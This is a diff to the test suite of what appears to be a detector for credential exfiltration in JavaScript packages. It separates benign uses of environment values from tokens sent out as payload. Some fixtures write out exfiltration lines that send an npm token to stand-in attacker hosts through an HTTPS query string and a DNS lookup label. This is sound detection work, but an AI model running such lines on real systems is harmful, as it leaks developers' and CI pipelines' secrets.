@@ -69,12 +69,33 @@ ruleTester('exfiltration', {
         fetch(base + '/v1/items').then((r) => r.json());`,
     },
     {
-      name: 'a CI token sent to the endpoint the CI itself names (OIDC exchange)',
+      name: 'an env registry URL is only the destination (npm_config_registry + name)',
+      code: `const https = require('https');
+https.get(process.env.npm_config_registry + encodeURIComponent(name), (res) => res.resume());`,
+    },
+    {
+      name: 'a socket path from the environment is where the client connects',
+      code: `const net = require('net');
+const s = net.createConnection(process.env.WATCHMAN_SOCK);
+s.write(JSON.stringify(['version']));`,
+    },
+    {
+      name: 'host, port and agent options from the environment are configuration',
+      code: `const http = require('http');
+const req = http.request({ hostname: process.env.DB_HOST, port: process.env.DB_PORT, agent: new http.Agent(), path: '/q' });
+req.end('ping');`,
+    },
+    {
+      name: "an env base URL with a constant fallback forms the origin (\`\${process.env.BASE ?? 'https://api.x.example'}/v1\`)",
+      code: `fetch(\`\${process.env.STATUS_BASE ?? 'https://status.example'}/v1/builds\`, { method: 'POST', body: JSON.stringify({ ok: true }) });`,
+    },
+    {
+      name: 'a CI token sent to the endpoint the CI itself names (OIDC exchange): auth position only',
       code: `
         async function getToken(audience) {
           const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);
           url.searchParams.append('audience', audience);
-          const res = await fetch(url.href, { headers: { Authorization: 'Bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } });
+          const res = await fetch(url.href, { headers: { 'x-trace': 'a' } });
           return (await res.json()).value;
         }`,
     },
@@ -506,8 +527,37 @@ test('exfiltration: flow ends carry both positions and the env name', () => {
   assert.equal(f.line, 3);
   assert.deepEqual(f.flow, {
     source: { detail: 'process.env.NPM_TOKEN', line: 1, column: 10 },
-    sink: { detail: 'fetch url', line: 3, column: 0 },
+    sink: { detail: 'fetch url', line: 3, column: 0, position: 'payload', hosts: ['x.attacker.invalid'] },
   });
+});
+
+test('exfiltration: where a value lands decides its position (auth vs payload) and the destination is recorded', () => {
+  const sinks = (code: string) => findingsOf('exfiltration', code).map((f) => ({ src: f.flow?.source.detail, ...f.flow?.sink }));
+  // OIDC exchange: the CI's token in the Authorization header to the URL the CI names
+  assert.deepEqual(
+    sinks(`const url = new URL(process.env.ACTIONS_ID_TOKEN_REQUEST_URL);
+fetch(url.href, { headers: { Authorization: 'Bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } });`).map((s) => [s.src, s.position, s.destinationEnv]),
+    [['process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'auth', ['ACTIONS_ID_TOKEN_REQUEST_URL']]],
+  );
+  // a vendor key as a header to the vendor's constant host or its own base-URL setting
+  assert.deepEqual(
+    sinks(`fetch(\`\${process.env.OPENAI_BASE_URL || 'https://api.openai.example/v1'}/chat\`, { method: 'POST', headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY }, body: JSON.stringify({ prompt }) });`)
+      .map((s) => [s.src, s.position, s.hosts, s.destinationEnv]),
+    [['process.env.OPENAI_API_KEY', 'auth', ['api.openai.example'], ['OPENAI_BASE_URL']]],
+  );
+  // the same credential in a body, a query value or a DNS label is payload
+  assert.deepEqual(
+    sinks(`const https = require('https'); const dns = require('dns');
+https.request({ hostname: 'api.github.example', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } }).end(JSON.stringify({ t: process.env.NPM_TOKEN }));
+https.get('https://x.attacker.invalid/p?t=' + process.env.NPM_TOKEN);
+dns.lookup(process.env.NPM_TOKEN + '.ns.attacker.invalid', () => {});`).map((s) => [s.src, s.detail, s.position, s.hosts]),
+    [
+      ['process.env.NPM_TOKEN', 'https.request body', 'payload', ['api.github.example']],
+      ['process.env.GITHUB_TOKEN', 'https.request headers', 'auth', ['api.github.example']],
+      ['process.env.NPM_TOKEN', 'https.get url', 'payload', ['x.attacker.invalid']],
+      ['process.env.NPM_TOKEN', 'dns.lookup hostname', 'payload', ['ns.attacker.invalid']],
+    ].map(([a, b, c, d]) => [a, b, c, d]),
+  );
 });
 
 test('exfiltration: a shell environment dump is also a child-process finding saying what it does', () => {
